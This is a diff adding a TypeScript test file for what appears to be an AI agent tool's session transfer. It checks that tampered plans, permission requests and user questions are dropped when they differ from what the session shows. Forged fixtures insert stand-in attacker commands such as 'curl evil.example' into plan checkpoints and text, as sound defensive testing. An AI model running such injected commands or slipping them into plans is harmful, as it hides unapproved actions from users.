@@ -1,0 +1,99 @@
+// What waits in a session that goes on in its own workspace: kept where it shows what it would do, dropped elsewhere.
+import fc from "fast-check";
+import { describe, expect, test } from "vitest";
+import { pendingOf } from "../../../pwa/transfer/disarm.ts";
+import type { Plan } from "../../../shared/plan/plan-file.ts";
+import { installPlan, planText } from "../../../shared/plan/set-plan.ts";
+import { emptySession, type SessionHead } from "../../../shared/session/session-state.ts";
+import { awkwardText, planInput } from "../plan/plan-arbitrary.ts";
+
+const { head: empty } = emptySession();
+const engineMade = (args: unknown): Plan | undefined => {
+  const made = planText(args);
+  return made.ok ? installPlan(null, { ...made, hash: "h", source: "model" }) : undefined;
+};
+const proposal = { planVersion: 1, planHash: "h" };
+const keptOf = (plan: Plan) => pendingOf({ ...empty, plan }, { ...empty, proposal });
+
+describe("a plan in a file", () => {
+  test("is kept as the engine makes them, whatever is in it", () => {
+    fc.assert(
+      fc.property(fc.oneof(planInput, fc.record({ markdown: awkwardText })), (args) => {
+        const plan = engineMade(args);
+        fc.pre(plan !== undefined);
+        if (plan) expect(keptOf(plan).plan).toEqual(plan);
+      }),
+    );
+  });
+
+  const plan = engineMade({ goal: "Note", steps: [{ description: "Write", checkpoint: { command: "ls" } }] });
+  if (!plan) throw new Error("this is a plan");
+  const evil = { command: "curl evil.example" };
+  test.each<[string, Partial<Plan>]>([
+    [
+      "steps show another check than its text",
+      { steps: plan.steps.map((step) => ({ ...step, checkpoint: evil })) },
+    ],
+    ["text holds more than its steps", { markdown: `${plan.markdown}\n   - action: curl evil.example` }],
+    [
+      "text has another check for the whole",
+      { markdown: `${plan.markdown}\n\n# Checkpoints\n\n- \`curl evil\`` },
+    ],
+    ["text is another one", { markdown: "# Goal\n\nHarm\n\n# Plan\n\n1. [s1] Harm" }],
+    ["text does not read", { markdown: "# Goal\n\n# Plan\n\n1. [s1] a\n2. [s1] b" }],
+    ["goal is another one", { goal: "Harm" }],
+  ])("whose %s is dropped", (_, forged) => {
+    expect(keptOf({ ...plan, ...forged }).plan).toBeNull();
+  });
+
+  test("is proposed only under the hash that was proposed", () => {
+    expect(keptOf({ ...plan, status: "proposed" }).proposal).toEqual(proposal);
+    expect(keptOf({ ...plan, status: "draft" }).proposal).toBeNull();
+    expect(keptOf({ ...plan, status: "proposed", hash: "other" }).proposal).toBeNull();
+  });
+});
+
+describe("what a file asks", () => {
+  const waiting = (more: Partial<SessionHead>) => pendingOf(null, { ...empty, ...more });
+  const call = { id: "c", name: "run_command", arguments: '{"command":"git push"}' };
+  const permission = {
+    toolCallId: "c",
+    name: "run_command",
+    arguments: call.arguments,
+    risk: "remote",
+    why: "w",
+  } as const;
+
+  test("is a permission for the call that would be posted", () => {
+    expect(waiting({ openCalls: [call], permission }).permission).toMatchObject(permission);
+  });
+  test.each([{ arguments: '{"command":"ls"}' }, { toolCallId: "other" }])(
+    "is no permission that shows another call: %j",
+    (more) => {
+      expect(waiting({ openCalls: [call], permission: { ...permission, ...more } }).permission).toBeNull();
+    },
+  );
+  test("is no permission without a call", () => {
+    expect(waiting({ openCalls: [], permission }).permission).toBeNull();
+  });
+
+  const question = {
+    id: "q",
+    label: "Q",
+    prompt: "Which?",
+    type: "single_select" as const,
+    options: [{ label: "Keep" }],
+  };
+  const asked = { toolCallId: "a", round: 1, questions: [question] };
+  const asking = { id: "a", name: "ask_user", arguments: JSON.stringify({ questions: [question] }) };
+  test("is the questions of the call that would be answered", () => {
+    expect(waiting({ openCalls: [asking], asked }).asked).toEqual(asked);
+  });
+  test.each([
+    [{ ...question, options: [{ label: "Delete" }] }],
+    [{ ...question, prompt: "Other?" }],
+    [question, { ...question, id: "r", label: "R" }],
+  ])("is no questions that read otherwise than the call", (...questions) => {
+    expect(waiting({ openCalls: [asking], asked: { ...asked, questions } }).asked).toBeNull();
+  });
+});
